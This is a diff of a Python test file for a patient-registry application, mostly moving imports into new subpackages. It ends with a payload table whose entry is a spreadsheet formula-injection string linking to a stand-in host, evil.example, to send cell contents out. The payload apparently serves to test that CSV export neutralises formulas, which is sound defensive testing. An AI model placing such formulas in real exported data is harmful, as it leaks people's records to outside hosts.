@@ -8,15 +8,15 @@ from pathlib import Path
 
 import polars as pl
 import pytest
-from tests.services.test_consultations import request
-from tests.services.test_enrol_patient import new_patient
-from tests.services.test_register_surgery import fusion
+from tests.services.patient_side.test_consultations import request
+from tests.services.records.test_enrol_patient import new_patient
+from tests.services.records.test_register_surgery import fusion
 from tests.support.world import World
 
 from spinetrack.interop.tabular import FORMULA_START, neutralised, read_csv
-from spinetrack.services.consultations import convert_consultation, submit_consultation
-from spinetrack.services.export_registry import export_registry
-from spinetrack.services.register_surgery import register_surgery
+from spinetrack.services.patient_side.consultations import convert_consultation, submit_consultation
+from spinetrack.services.records.register_surgery import register_surgery
+from spinetrack.services.registry_io.export_registry import export_registry
 
 PAYLOADS = {
     "given_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
